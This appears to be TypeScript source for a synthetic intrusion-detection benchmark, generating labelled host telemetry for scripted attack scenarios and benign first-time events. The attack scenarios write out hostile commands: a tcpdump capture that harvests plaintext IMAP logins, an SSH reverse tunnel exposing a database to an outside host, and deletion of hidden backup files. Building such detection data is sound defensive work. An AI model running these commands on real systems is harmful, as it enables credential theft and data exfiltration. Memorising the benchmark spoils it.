        h.exec(tt, 'backup', '/usr/bin/rm', 'rm -f /var/tmp/.b.00 /var/tmp/.b.01 /var/tmp/.b.02 /var/tmp/.b.03', shell, cwd);
      },
    },
    {
      id: 'tcpdump-sniff',
      title:
        "network sniffing (T1040): the mail admin's password used at night from the VPN pool captures the webmail's plaintext IMAP on loopback for forty minutes with sudo tcpdump, then reads the logins out of the capture",
      host: 'mail-1',
      day: 1,
      play(h, t) {
        const s = { story: this.id };
        const cwd = { cwd: '/home/sam', ...s };
        h.login(t, 'sam', '10.40.9.31', s);
        const shell = h.session(t, 'sam', s);
        const cap = 'tcpdump -i lo -nn -s 0 -U -w /var/tmp/.s.pcap tcp port 143 or tcp port 4190';
        h.history(t + 25, 'sam', `sudo ${cap} &`, s);
        const sudo = h.exec(t + 25, 'sam', '/usr/bin/sudo', `sudo ${cap}`, shell, { euid: '0', ...cwd });
        h.exec(t + 26, 'sam', '/usr/bin/tcpdump', cap, sudo, { uid: '0', euid: '0', ...cwd });
        const t2 = t + 40 * 60 + Math.floor(r() * 300);
        h.history(t2, 'sam', "sudo tcpdump -nn -A -r /var/tmp/.s.pcap | grep -a -E 'LOGIN|AUTHENTICATE' -A1", s);
        const sudo2 = h.exec(t2, 'sam', '/usr/bin/sudo', 'sudo tcpdump -nn -A -r /var/tmp/.s.pcap', shell, { euid: '0', ...cwd });
        h.exec(t2 + 1, 'sam', '/usr/bin/tcpdump', 'tcpdump -nn -A -r /var/tmp/.s.pcap', sudo2, { uid: '0', euid: '0', ...cwd });
        h.exec(t2, 'sam', '/usr/bin/grep', 'grep -a -E LOGIN|AUTHENTICATE -A1', shell, cwd);
        const sudo3 = h.exec(t2 + 60, 'sam', '/usr/bin/sudo', 'sudo pkill tcpdump', shell, { euid: '0', ...cwd });
        h.exec(t2 + 61, 'sam', '/usr/bin/pkill', 'pkill tcpdump', sudo3, { uid: '0', euid: '0', ...cwd });
        h.history(t2 + 60, 'sam', 'sudo pkill tcpdump', s);
      },
    },
    {
      id: 'reverse-ssh-tunnel',
      title:
        "protocol tunneling (T1572) over SSH on port 443: the DBA's account on a Wednesday afternoon opens a remote forward that exposes the database to an outside server, which then reads it through the tunnel for hours",
      host: 'pg-main',
      day: 1,
      play(h, t) {
        const s = { story: this.id };
        h.login(t, 'omar', '10.40.8.37', s);
        const shell = h.session(t, 'omar', s);
        const cmd = 'ssh -f -N -o ServerAliveInterval=60 -o ExitOnForwardFailure=yes -R 15432:127.0.0.1:5432 -p 443 tun@203.0.113.140';
        h.history(t + 30, 'omar', cmd, s);
        const ssh = h.exec(t + 30, 'omar', '/usr/bin/ssh', cmd, shell, s);
        h.connect(t + 31, ssh, '/usr/bin/ssh', '1002', '203.0.113.140', 443, s);
        // what comes through the forward reaches the database as local connections: backends only
        for (let k = 0; k < 5; k++) {
          const tt = t + 1800 + k * (40 * 60 + Math.floor(r() * 1200));
          h.exec(tt, 'postgres', '/usr/lib/postgresql/15/bin/postgres', `postgres: app appdb 127.0.0.1(${40000 + Math.floor(r() * 20000)}) COPY`, '701', {
            cwd: '/var/lib/postgresql/15/main',
            ...s,
          });
        }
      },
    },
  ];
}

// ---- benign first times ----

export function heldout4Novelties(rand: Rand): Story[] {
  const r = rand;
  return [
    {
      id: 'new-sre',
      title:
        "an SRE joins: configuration management creates the account and installs the key on the bastion, then the new person's first two days from a new workstation: sudo rights checked, the agent listed, hops to the hosts the team looks after",
      host: 'bastion-1',
      day: 0,
      play(h, t) {
        const n = { novelty: this.id };
        const py = h.exec(t, 'root', '/usr/bin/python3', 'python3 /root/.ansible/tmp/ansible-tmp-7/AnsiballZ_user.py', '1', n);
        h.exec(t + 1, 'root', '/usr/sbin/useradd', 'useradd -m -s /bin/bash -G adm noor', py, n);
        h.file(t + 1, '/etc/passwd', 'UPDATED', n);
        h.file(t + 1, '/etc/shadow', 'UPDATED', n);
        const py2 = h.exec(t + 20, 'root', '/usr/bin/python3', 'python3 /root/.ansible/tmp/ansible-tmp-8/AnsiballZ_authorized_key.py', '1', n);
        h.exec(t + 21, 'root', '/usr/bin/mkdir', 'mkdir -p /home/noor/.ssh', py2, n);
        h.file(t + 22, '/home/noor/.ssh/authorized_keys', 'CREATED', n);
        for (const [d, start] of [
          [0, t + 2 * HOUR + Math.floor(r() * 1800)],
          [1, t + DAY - HOUR + Math.floor(r() * 3600)],
        ]) {
          h.login(start, 'noor', '10.40.8.77', n);
          const shell = h.session(start, 'noor', n);
          const cmds: string[] = d === 0 ? ['id', 'sudo -l', 'ssh-add -l', 'ls -la'] : ['ssh-add -l', 'tmux new -s main'];
          let tt = start + 30;
          for (const c of cmds) {
            const exe = `/usr/bin/${c.split(' ')[0]}`;
            h.exec(tt, 'noor', exe, c, shell, { ...n, ...(c.startsWith('sudo') ? { euid: '0' } : {}) });
            h.history(tt, 'noor', c, n);
            tt += 20 + Math.floor(r() * 60);
          }
          for (const target of d === 0 ? [PG, '10.40.2.11', '10.40.2.20'] : ['10.40.2.20', '10.40.2.21', PG]) {
            const ssh = h.exec(tt, 'noor', '/usr/bin/ssh', `ssh ${target}`, shell, n);
            h.connect(tt + 1, ssh, '/usr/bin/ssh', '1009', target, 22, n);
            h.history(tt, 'noor', `ssh ${target}`, n);
            tt += 300 + Math.floor(r() * 1800);
          }
        }
      },
    },
    {
      id: 'release-upgrade',
      title:
        "the mail server's distribution release upgrade in an evening window: do-release-upgrade fetches the upgrader, apt and dpkg replace the mail stack, maintainer scripts restart postfix and dovecot, and the host reboots into the new release",
      host: 'mail-1',
      day: 0,
      play(h, t) {
        const n = { novelty: this.id };
        const root = { uid: '0', euid: '0', cwd: '/', ...n };
        h.login(t, 'sam', '10.40.8.61', n);
        const shell = h.session(t, 'sam', n);
        h.history(t + 20, 'sam', 'sudo do-release-upgrade', n);
        const sudo = h.exec(t + 20, 'sam', '/usr/bin/sudo', 'sudo do-release-upgrade', shell, { euid: '0', ...n });
        const dru = h.exec(t + 21, 'sam', '/usr/bin/python3', '/usr/bin/python3 /usr/bin/do-release-upgrade', sudo, root);
        socket(h, r, t + 22, { pid: dru, path: '/usr/bin/python3.10', action: 'connect', address: '185.125.190.36', port: 443, auid: '1008' }, n);
        h.exec(t + 30, 'sam', '/usr/bin/gpg', 'gpg --homedir /tmp/tmpq1x8d --verify /tmp/ubuntu-release-upgrader-9vq/noble.tar.gz.gpg', dru, root);
        const up = h.exec(
          t + 35,
          'sam',
          '/tmp/ubuntu-release-upgrader-9vq/noble',
          '/usr/bin/python3 /tmp/ubuntu-release-upgrader-9vq/noble --mode=server --frontend=DistUpgradeViewText',
          dru,
          root,
        );
        for (const [i, mirror] of ['91.189.91.39', '185.125.190.36', '91.189.91.39'].entries()) {
          const m = h.exec(t + 60 + i * 40, 'sam', '/usr/lib/apt/methods/http', '/usr/lib/apt/methods/http', up, root);
          socket(h, r, t + 61 + i * 40, { pid: m, path: '/usr/lib/apt/methods/http', action: 'connect', address: mirror, port: 80, auid: '1008' }, n);
        }
        const dpkgs = [
          'libc6',
          'libssl3t64',
          'openssl',
          'systemd',
          'postfix',
          'dovecot-core',
          'dovecot-imapd',
          'rspamd',
          'php8.3-fpm',
          'python3.12',
          'linux-image-6.8.0-51-generic',
        ];
        let tt = t + 600;
        for (const p of dpkgs) {
          unpackPackage(h, tt, 'sam', p, up, root, { statusFd: 75, configureAfter: 8 });
          tt += 20 + Math.floor(r() * 60);
        }
        const cfg = h.exec(tt, 'sam', '/usr/bin/dpkg', '/usr/bin/dpkg --status-fd 75 --configure --pending', up, root);
        h.exec(tt + 5, 'sam', '/usr/sbin/postfix', 'postfix check', cfg, root);
        h.exec(tt + 6, 'sam', '/usr/bin/doveconf', 'doveconf -n', cfg, root);
        h.exec(tt + 8, 'sam', '/usr/bin/systemctl', 'systemctl restart postfix.service', cfg, root);
        h.exec(tt + 9, 'sam', '/usr/bin/systemctl', 'systemctl restart dovecot.service', cfg, root);
        h.exec(tt + 12, 'sam', '/usr/sbin/update-initramfs', 'update-initramfs -u -k 6.8.0-51-generic', cfg, root);
        h.exec(tt + 40, 'sam', '/usr/sbin/update-grub', 'update-grub', cfg, root);
        h.file(tt + 50, '/etc/systemd/system/multi-user.target.wants/rspamd.service', 'CREATED', n);
        h.exec(tt + 300, 'sam', '/sbin/shutdown', '/sbin/shutdown -r now', up, root);
        let bt = tt + 400;
        for (const [exe, cmd] of [
          ['/usr/lib/systemd/systemd-journald', '/usr/lib/systemd/systemd-journald'],
          ['/usr/lib/systemd/systemd-networkd', '/usr/lib/systemd/systemd-networkd'],
          ['/usr/lib/systemd/systemd-resolved', '/usr/lib/systemd/systemd-resolved'],
          ['/usr/sbin/sshd', '/usr/sbin/sshd -D'],
          ['/usr/lib/postfix/sbin/master', '/usr/lib/postfix/sbin/master -w'],
          ['/usr/sbin/dovecot', '/usr/sbin/dovecot -F'],
          ['/usr/bin/rspamd', '/usr/bin/rspamd -f -u _rspamd -g _rspamd'],
          ['/usr/sbin/php-fpm8.3', 'php-fpm: master process (/etc/php/8.3/fpm/php-fpm.conf)'],
        ] as const)
          h.exec((bt += 2 + Math.floor(r() * 3)), null, exe, cmd, '1', { uid: '0', cwd: '/', ...n });
        h.login(bt + 120, 'sam', '10.40.8.61', n);
        const shell2 = h.session(bt + 120, 'sam', n);
        for (const c of ['lsb_release -a', 'mailq', 'tail -n 100 /var/log/mail.log']) {
          bt += 30 + Math.floor(r() * 40);
          h.exec(bt + 120, 'sam', `/usr/bin/${c.split(' ')[0]}`, c, shell2, n);
          h.history(bt + 120, 'sam', c, n);
        }
      },
    },
    {
      id: 'night-db-migration',
      title:
        'a schema migration in a late-evening maintenance window: the DBA, from the home VPN on a Tuesday, dumps the table, runs the migration file in one transaction, and analyzes; postgres backends run the DDL',
      host: 'pg-main',
      day: 0,
      play(h, t) {
        const n = { novelty: this.id };
        const cwd = { cwd: '/home/omar', ...n };
        h.login(t, 'omar', '10.40.9.37', n);
        const shell = h.session(t, 'omar', n);
        const steps: Array<[string, string, number]> = [
          ['/usr/bin/pg_dump', 'pg_dump -Fc -t orders -d appdb -f /var/backups/orders-pre-0042.dump', 500],
          ['/usr/bin/psql', 'psql -d appdb -v ON_ERROR_STOP=1 -1 -f /home/omar/migrations/0042_partition_orders.sql', 1500],
          ['/usr/bin/psql', 'psql -d appdb -c \\d+ orders', 60],
          ['/usr/bin/vacuumdb', 'vacuumdb -d appdb --analyze-in-stages', 400],
          ['/usr/bin/psql', 'psql -d appdb -c select count(*) from orders_2026_01', 60],
        ];
        let tt = t + 60;
        for (const [exe, cmd, dur] of steps) {
          h.exec(tt, 'omar', exe, cmd, shell, cwd);
          h.history(tt, 'omar', cmd, n);
          const verb = exe.endsWith('pg_dump') ? 'COPY' : exe.endsWith('vacuumdb') ? 'ANALYZE' : cmd.includes('-f ') ? 'ALTER TABLE' : 'idle';
          h.exec(tt + 1, 'postgres', '/usr/lib/postgresql/15/bin/postgres', `postgres: omar appdb [local] ${verb}`, '701', {
            cwd: '/var/lib/postgresql/15/main',
            ...n,
          });
          if (cmd.includes('-f '))
            for (let k = 0; k < 2; k++)
              h.exec(tt + 30 + k, 'postgres', '/usr/lib/postgresql/15/bin/postgres', `postgres: parallel worker for PID ${4000 + k}`, '701', {
                cwd: '/var/lib/postgresql/15/main',
                ...n,
              });
          tt += dur + Math.floor(r() * dur * 0.3);
        }
      },
    },
    {
      id: 'rust-toolchain',
      title:
        "the developer installs a toolchain for a new service: rustup's installer from sh.rustup.rs, a first cargo build fetching crates and running build scripts, and pre-commit with pip --user",
      host: 'ci-runner-3',
      day: 1,
      play(h, t) {
        const n = { novelty: this.id };
        const home = '/home/dana';
        const src = { cwd: `${home}/src/ingest`, ...n };
        h.login(t, 'dana', '10.40.8.21', n);
        const shell = h.session(t, 'dana', n);
        h.history(t + 20, 'dana', "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y", n);
        const curl = h.exec(t + 20, 'dana', '/usr/bin/curl', 'curl --proto =https --tlsv1.2 -sSf https://sh.rustup.rs', shell, { cwd: home, ...n });
        h.connect(t + 21, curl, '/usr/bin/curl', '1001', '18.154.227.83', 443, n);
        const sh = h.exec(t + 20, 'dana', '/bin/sh', 'sh -s -- -y', shell, { cwd: home, ...n });
        const dl = h.exec(
          t + 22,
          'dana',
          '/usr/bin/curl',
          'curl --proto =https --tlsv1.2 --silent --show-error --fail --location https://static.rust-lang.org/rustup/dist/x86_64-unknown-linux-gnu/rustup-init --output /tmp/tmp.vR3/rustup-init',
          sh,
          { cwd: home, ...n },
        );
        h.connect(t + 23, dl, '/usr/bin/curl', '1001', '18.154.227.14', 443, n);
        const init = h.exec(t + 30, 'dana', '/tmp/tmp.vR3/rustup-init', '/tmp/tmp.vR3/rustup-init -y', sh, { cwd: home, ...n });
        h.connect(t + 31, init, '/tmp/tmp.vR3/rustup-init', '1001', '18.154.227.14', 443, n);
        h.exec(t + 120, 'dana', `${home}/.cargo/bin/rustc`, `${home}/.cargo/bin/rustc -vV`, init, { cwd: home, ...n });
        let tt = t + 400;
        h.history(tt, 'dana', 'cargo build --release', n);
        const cargo = h.exec(tt, 'dana', `${home}/.cargo/bin/cargo`, 'cargo build --release', shell, src);
        h.connect(tt + 2, cargo, `${home}/.cargo/bin/cargo`, '1001', '151.101.130.137', 443, n);
        h.connect(tt + 5, cargo, `${home}/.cargo/bin/cargo`, '1001', '18.154.227.45', 443, n);
        for (const crate of ['proc-macro2', 'libc', 'serde', 'ring', 'tokio', 'ingest']) {
          tt += 5 + Math.floor(r() * 30);
          h.exec(
            tt,
            'dana',
            `${home}/.rustup/toolchains/stable-x86_64-unknown-linux-gnu/bin/rustc`,
            `rustc --crate-name ${crate.replace(/-/g, '_')} --edition=2021 --crate-type lib -C opt-level=3`,
            cargo,
            src,
          );
          if (crate === 'ring') {
            const bs = h.exec(
              tt + 2,
              'dana',
              `${home}/src/ingest/target/release/build/ring-${hex(r, 16)}/build-script-build`,
              'build-script-build',
              cargo,
              src,
            );
            h.exec(tt + 3, 'dana', '/usr/bin/cc', 'cc -O3 -ffunction-sections -fdata-sections -fPIC -m64 -c crypto/curve25519/curve25519.c', bs, src);
          }
        }
        tt += 300;
        h.history(tt, 'dana', 'pip install --user pre-commit', n);
        const pip = h.exec(tt, 'dana', '/usr/bin/python3', '/usr/bin/python3 -m pip install --user pre-commit', shell, src);
        h.connect(tt + 2, pip, '/usr/bin/python3', '1001', '151.101.0.223', 443, n);
        h.connect(tt + 4, pip, '/usr/bin/python3', '1001', '151.101.64.223', 443, n);
        h.history(tt + 60, 'dana', 'pre-commit install', n);
        const pc = h.exec(tt + 60, 'dana', '/usr/bin/python3', `/usr/bin/python3 ${home}/.local/bin/pre-commit install`, shell, src);
        h.exec(tt + 61, 'dana', '/usr/bin/git', 'git config --get core.hooksPath', pc, src);
      },
    },
    {
      id: 'ir-triage',
      title:
        "an incident responder's triage run on the Kubernetes node: a root shell with sudo, process and socket listings, containers inspected, recently changed files searched, a packet capture and a memory image taken with avml, all copied to the forensics host",
      host: 'k8s-node-2',
      day: 1,
      play(h, t) {
        const n = { novelty: this.id };
        h.login(t, 'ops', '10.40.8.44', n);
        const shell = h.session(t, 'ops', n);
        h.history(t + 15, 'ops', 'sudo -i', n);
        const sudo = h.exec(t + 15, 'ops', '/usr/bin/sudo', 'sudo -i', shell, { euid: '0', ...n });
        const root = { uid: '0', euid: '0', cwd: '/root/ir', ...n };
        const bash = h.exec(t + 16, 'ops', '/bin/bash', '-bash', sudo, root);
        const steps: Array<[string, string, number?]> = [
          ['/usr/bin/mkdir', 'mkdir -p /root/ir'],
          ['/usr/bin/ps', 'ps auxfww'],
          ['/usr/bin/ss', 'ss -tanpu'],
          ['/usr/bin/lsof', 'lsof -nP -i'],
          ['/usr/bin/crictl', 'crictl ps -a'],
          ['/usr/bin/crictl', 'crictl inspect --output json'],
          ['/usr/bin/find', 'find / -xdev -newermt -2 days -type f -not -path /proc/* -not -path /var/lib/containerd/*'],
          ['/usr/bin/last', 'last -Faiw'],
          ['/usr/bin/tcpdump', 'tcpdump -i any -nn -c 20000 -w /root/ir/node2.pcap', 120],
          ['/root/ir/avml', '/root/ir/avml --compress /root/ir/node2.lime', 300],
          ['/usr/bin/sha256sum', 'sha256sum /root/ir/node2.pcap /root/ir/node2.lime'],
        ];
        let tt = t + 40;
        for (const [exe, cmd, dur] of steps) {
          h.exec(tt, 'ops', exe, cmd, bash, root);
          h.history(tt, 'root', cmd, n);
          tt += (dur ?? 20) + Math.floor(r() * 40);
        }
        const scp = h.exec(tt, 'ops', '/usr/bin/scp', 'scp /root/ir/node2.pcap /root/ir/node2.lime.zst ir@10.40.0.60:/cases/2026-014/', bash, root);
        h.connect(tt + 1, scp, '/usr/bin/ssh', '0', '10.40.0.60', 22, n);
      },
    },
  ];
}

/** hour of the labelled day each story is played at */
const STORY_HOURS: Record<string, number> = {
  'proc-mem-dump': 3,
  'kubectl-exec-pivot': 19,
  'user-timer': 21,
  'ransom-encrypt': 4,
  pwnkit: 2,
  'udev-persistence': 1,
  'ssh-agent-hijack': 14,
  'mailbox-exfil': 13,
  'tcpdump-sniff': 22,
  'reverse-ssh-tunnel': 16,
  'new-sre': 9,
  'release-upgrade': 20,
  'night-db-migration': 22,
  'rust-toolchain': 11,
  'ir-triage': 16,
};

export function generateHeldout4(opts: StorySetOptions): StorySet {
  if (opts.days < 5) throw new Error('the fourth held-out set needs at least 5 days');
  // its own stream for a seed: nothing lines up with the other sets by accident
  const r = xorshift(opts.seed * 15485863 + 47);
  const ci = companyHost('ci-runner-3', r);
  const pg = companyHost('pg-main', r);
  const web = companyHost('edge-web', r);
  const bastion = companyHost('bastion-1', r);
  const mail = new Host(
    'mail-1',
    [
      { name: 'root', uid: '0', home: '/root' },
      { name: 'sam', uid: '1008', home: '/home/sam' },
      { name: 'postfix', uid: '106', home: '/var/spool/postfix', service: true },
      { name: 'dovenull', uid: '108', home: '/nonexistent', service: true },
      { name: 'vmail', uid: '5000', home: '/var/vmail', service: true },
      { name: 'www-data', uid: '33', home: '/var/www', service: true },
      { name: 'backup', uid: '998', home: '/var/backups' },
    ],
    r,
  );
  const node = new Host(
    'k8s-node-2',
    [
      { name: 'root', uid: '0', home: '/root' },
      { name: 'ops', uid: '1003', home: '/home/ops' },
    ],
    r,
  );
  const hosts = [ci, pg, web, bastion, mail, node];
  const byName = new Map(hosts.map((h) => [h.name, h]));
  const pods: KubeNodeState = { api: [] };
  const firstTest = opts.days - 2;
  for (let d = 0; d < opts.days; d++) {
    const day = opts.start + d * DAY;
    // the account the new SRE's story provisions on the first labelled day is in the next day's `users` snapshot
    if (d === firstTest + 1) bastion.accounts.push({ name: 'noor', uid: '1009', home: '/home/noor' });
    hostBackground(hosts, day, r);
    for (const h of [ci, pg, mail]) nodeExporter(h, day, r);
    nightlyBackup(ci, day, r, '/srv/ci');
    nightlyBackup(pg, day, r, '/var/lib/postgresql/15/main');
    nightlyBackup(mail, day, r, '/var/vmail /etc/postfix /etc/dovecot');
    companyWorkday(ci, pg, web, day, r);
    jumpHost(bastion, day, r, false);
    mailServer(mail, day, r);
    mailAdmin(mail, day, r, 'sam');
    kubeNode(node, day, r, pods);
    nodeCheck(node, day, r, 'ops');
  }
  const attacks = heldout4Attacks(r, pods);
  const novelties = heldout4Novelties(r);
  playStories([...novelties, ...attacks], STORY_HOURS, (s) => byName.get(s.host)!, opts.start + firstTest * DAY, r);
  for (const row of bastion.rows) if (row.query === 'pack_hids_users' && row.columns.username === 'noor') row.novelty = 'new-sre';
  // the shared routines log some rows the pack's queries would not return: drop them
  for (const h of hosts) h.rows.splice(0, h.rows.length, ...h.rows.filter(packReturns));
  const split = splitLabelled(hosts, opts.start + firstTest * DAY);
  return { ...split, stories: attacks, novelties };
}
